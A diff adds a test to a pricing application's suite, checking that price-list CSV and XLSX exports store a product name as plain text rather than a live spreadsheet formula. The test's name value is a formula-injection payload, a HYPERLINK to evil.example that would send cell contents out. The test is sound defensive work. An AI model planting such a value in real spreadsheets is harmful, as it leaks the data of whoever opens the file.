@@ -318,3 +318,19 @@ def test_a_patch_is_validated_as_a_whole_rule(shop):
     early = http.patch(url, json={"valid_to": "2026-01-01", "version": changed["version"]})
     assert early.get_json()["errors"] == {"valid_to": ["Must not be before valid from."]}
     assert http.get("/api/v1/pricing/rules/99999").status_code == 404
+
+
+def test_price_list_files_carry_formula_like_names_as_text(shop):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with shop.app_context():
+        product = db_session.scalars(select(Product).where(Product.code == "PAP-A4")).one()
+        product.name = name
+        db_session.commit()
+    http = logged_in(shop, "maria")
+    with time_machine.travel(NOW, tick=False):
+        text = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.csv").text
+        xlsx = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.xlsx").data
+    assert "'" + name in [cells[2] for cells in csv.reader(io.StringIO(text)) if len(cells) > 2]
+    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for cell in row]
+    written = next(cell for cell in cells if cell.value == name)
+    assert written.data_type == "s"  # a string, which Excel shows; not a formula it would run
